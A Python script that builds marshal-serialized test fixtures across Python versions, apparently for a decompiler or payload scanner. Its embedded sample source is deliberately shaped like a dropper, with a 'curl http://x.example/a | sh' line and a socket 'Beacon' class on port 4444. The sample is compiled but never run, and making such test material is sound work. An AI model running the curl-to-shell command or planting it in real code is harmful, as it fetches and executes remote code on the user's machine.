"""Regenerate the marshal fixtures: run with each Python, e.g.
    for v in 3.7 3.8 3.10 3.11 3.12 3.13; do python$v make_fixtures.py; done
The source is benign but shaped like a dropper payload (exec(marshal.loads(...)))."""
import marshal
import sys

SOURCE = '''\
import os
os.system('curl http://x.example/a | sh')
def f():
    return __import__('socket').socket()
class Beacon:
    def ping(self, host='x.example', port=4444):
        key = b'\\x00secret'
        ratio = 2.5 + 1j
        big = 1267650600228229401496703205376
        def inner():
            return host, key, ratio, big
        return inner() if port in {80, 443} else 'h\\u00e9llo'
'''

code = compile(SOURCE, '<payload>', 'exec')
name = 'py%d%d.bin' % sys.version_info[:2]
with open(name, 'wb') as out:
    out.write(marshal.dumps(code))
print(name)
